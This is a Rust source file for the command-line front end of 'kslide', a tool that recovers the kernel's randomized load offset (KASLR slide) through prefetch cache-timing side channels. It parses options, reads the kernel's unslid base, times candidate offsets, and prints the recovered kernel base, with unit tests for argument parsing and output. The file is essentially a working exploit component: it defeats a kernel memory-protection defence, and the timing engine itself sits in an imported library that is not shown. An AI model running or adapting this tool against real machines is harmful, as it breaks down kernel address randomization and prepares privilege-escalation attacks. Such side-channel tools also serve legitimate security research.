use std::io::Write;
use std::path::PathBuf;
use std::process::ExitCode;

use clap::{Parser, ValueEnum};

use kslide::context;
use kslide::logging::{self as log, LogLevel};
use kslide::prelude::*;
use kslide::slide::SlideCandidate;
use kslide::Error;

const EXIT_NOT_FOUND: u8 = 1;
const EXIT_FATAL: u8 = 2;

#[derive(Parser, Debug)]
#[command(version, about = "Recover the kernel slide from prefetch timing")]
struct Args {
    /// Kernel image to read the unslid base address from
    #[arg(default_value = kslide::image::DEFAULT_KERNEL_PATH)]
    image: PathBuf,

    /// Where to read the cache geometry from
    #[arg(long, value_enum, default_value_t = SourceArg::System)]
    cache_source: SourceArg,

    /// Instruction used to touch candidate addresses
    #[arg(long, value_enum, default_value_t = ProbeArg::Prefetch)]
    probe: ProbeArg,

    /// Highest trimmed mean, in cycles, counted as a hit
    #[arg(long, default_value_t = 50)]
    threshold: i64,

    /// Timing samples per offset, a multiple of 8
    #[arg(long, default_value_t = 16)]
    samples: usize,

    #[arg(long, value_parser = parse_u64, default_value = "0x100000")]
    stride: u64,

    #[arg(long, value_parser = parse_u64, default_value = "0x20000000")]
    max_offset: u64,

    /// Consecutive hits needed to confirm, instead of the image span
    #[arg(long)]
    run_length: Option<u64>,

    /// Pin measurements to this CPU thread
    #[arg(long)]
    cpu: Option<usize>,

    /// Do not print per-offset timing samples
    #[arg(long, short)]
    quiet: bool,

    #[arg(long, value_enum, default_value_t = LevelArg::Info)]
    log_level: LevelArg,

    #[arg(long)]
    no_color: bool,
}

#[derive(Clone, Copy, Debug, ValueEnum)]
enum SourceArg {
    System,
    Cpuid,
}

#[derive(Clone, Copy, Debug, ValueEnum)]
enum ProbeArg {
    Prefetch,
    MaskedLoad,
    Auto,
}

#[derive(Clone, Copy, Debug, ValueEnum)]
enum LevelArg {
    Debug,
    Info,
    Warning,
    Error,
    Critical,
}

fn parse_u64(s: &str) -> Result<u64, String> {
    let res = match s.strip_prefix("0x").or_else(|| s.strip_prefix("0X")) {
        Some(hex) => u64::from_str_radix(hex, 16),
        None => s.parse(),
    };
    res.map_err(|e| format!("invalid number {s:?}: {e}"))
}

impl Args {
    fn search_config(&self) -> SearchConfig {
        SearchConfig {
            samples: self.samples,
            max_offset: self.max_offset,
            stride: self.stride,
            threshold: self.threshold,
            run_length: match self.run_length {
                Some(n) => RunLength::Fixed(n),
                None => RunLength::SpanImage,
            },
        }
    }
}

/// Prints one line per probed offset: the offset, then its raw samples
struct LineReporter<W: Write> {
    out: W,
}

impl<W: Write> SearchObserver for LineReporter<W> {
    fn on_window(&mut self, offset: u64, samples: &[i64]) {
        if !context::access(|ctx| ctx.trace_samples) {
            return;
        }
        let mut line = format!("{offset:#010x} ");
        for sample in samples {
            line.push_str(&format!("{sample:8} "));
        }
        // keep measuring even if stdout went away
        let _ = writeln!(self.out, "{line}");
    }

    fn on_candidate(&mut self, candidate: &SlideCandidate) {
        log::debug(format!(
            "{:#x}: trimmed mean {} ({:?})",
            candidate.offset, candidate.trimmed_mean, candidate.classification
        ));
    }
}

fn run(args: &Args) -> Result<SlideResult, Error> {
    let kernel = KernelImage::open(&args.image)?;
    log::debug(format!("Mapped {} ({} bytes)", kernel.path().display(), kernel.len()));

    log::info("Getting kernel slide...");
    let segment = kernel.segment()?;
    log::info(format!("Unslid kernel base is {:#018x}", segment.base));
    log::debug(format!("{} spans {:#x} bytes", segment.name, segment.size));

    let source = match args.cache_source {
        SourceArg::System => CacheSource::System,
        SourceArg::Cpuid => CacheSource::Cpuid,
    };
    let geometry = CacheGeometry::probe(source)?;
    log::info(format!("L3 cache size: {}", geometry.cache_size()));
    log::info(format!("Cacheline size: {}", geometry.line_size()));

    if let Some(cpu) = args.cpu {
        pin_cpu(cpu)?;
        log::info(format!("Pinned to cpu thread {cpu}"));
    }

    let probe = match args.probe {
        ProbeArg::Prefetch => Probe::Prefetch,
        ProbeArg::MaskedLoad => Probe::MaskedLoad,
        ProbeArg::Auto => Probe::Auto,
    };
    let oracle = CacheOracle::new(geometry, probe)?;
    log::debug(format!("Timing with {:?}", oracle.probe()));

    let mut search = SlideSearch::new(args.search_config(), oracle, &segment)?;
    log::debug(format!("Need {} consecutive hits", search.required_run()));

    log::info("Doing timings, this might take a bit (and requires radio silence)...");
    let mut reporter = LineReporter { out: std::io::stdout().lock() };
    let result = search.run(&mut reporter);

    if let SlideResult::Confirmed { slide } = result {
        log::info(format!("Kernel base is {:#018x}", segment.base.wrapping_add(slide)));
    }
    Ok(result)
}

fn main() -> ExitCode {
    let args = Args::parse();

    if args.no_color {
        colored::control::set_override(false);
    }
    let level = match args.log_level {
        LevelArg::Debug => LogLevel::Debug,
        LevelArg::Info => LogLevel::Info,
        LevelArg::Warning => LogLevel::Warning,
        LevelArg::Error => LogLevel::Error,
        LevelArg::Critical => LogLevel::Critical,
    };
    log::set_log_level(level);
    context::access(|ctx| {
        ctx.trace_samples = !args.quiet;
    });

    let result = run(&args);
    match &result {
        Ok(SlideResult::Confirmed { slide }) => println!("Kernel slide: {slide:#x}"),
        Ok(SlideResult::NotFound) => log::not_found(),
        Err(e) => {
            log::fatal(e.step(), e);
            log::debug(format!("{:?} error", e.kind()));
        }
    }
    ExitCode::from(exit_status(&result))
}

fn exit_status(result: &Result<SlideResult, Error>) -> u8 {
    match result {
        Ok(SlideResult::Confirmed { .. }) => 0,
        Ok(SlideResult::NotFound) => EXIT_NOT_FOUND,
        Err(_) => EXIT_FATAL,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn numbers_in_hex_or_decimal() {
        assert_eq!(parse_u64("0x100000"), Ok(0x100000));
        assert_eq!(parse_u64("0X20"), Ok(0x20));
        assert_eq!(parse_u64("4096"), Ok(4096));
        assert!(parse_u64("0xzz").is_err());
        assert!(parse_u64("").is_err());
    }

    #[test]
    fn not_found_and_failure_exit_differently() {
        let fatal: Result<SlideResult, Error> = Err(kslide::image::Error::NoSegment.into());
        assert_eq!(exit_status(&Ok(SlideResult::Confirmed { slide: 0 })), 0);
        assert_eq!(exit_status(&Ok(SlideResult::NotFound)), EXIT_NOT_FOUND);
        assert_eq!(exit_status(&fatal), EXIT_FATAL);
        assert_ne!(EXIT_NOT_FOUND, EXIT_FATAL);
    }

    #[test]
    fn default_args_match_default_config() {
        let args = Args::parse_from(["kslide"]);
        assert_eq!(args.search_config(), SearchConfig::default());
        assert_eq!(args.image, PathBuf::from(kslide::image::DEFAULT_KERNEL_PATH));
    }

    #[test]
    fn fixed_run_length_flag() {
        let args = Args::parse_from(["kslide", "--run-length", "3", "--stride", "0x200000", "/tmp/k"]);
        let cfg = args.search_config();
        assert_eq!(cfg.run_length, RunLength::Fixed(3));
        assert_eq!(cfg.stride, 0x200000);
        assert_eq!(args.image, PathBuf::from("/tmp/k"));
    }

    #[test]
    fn reporter_prints_offset_and_samples() {
        let mut reporter = LineReporter { out: Vec::new() };
        reporter.on_window(0x200000, &[12, -3, 400]);
        let line = String::from_utf8(reporter.out).unwrap_or_default();
        assert!(line.starts_with("0x00200000 "));
        assert!(line.contains("      12 "));
        assert!(line.contains("      -3 "));
        assert!(line.ends_with("     400 \n"));
    }
}
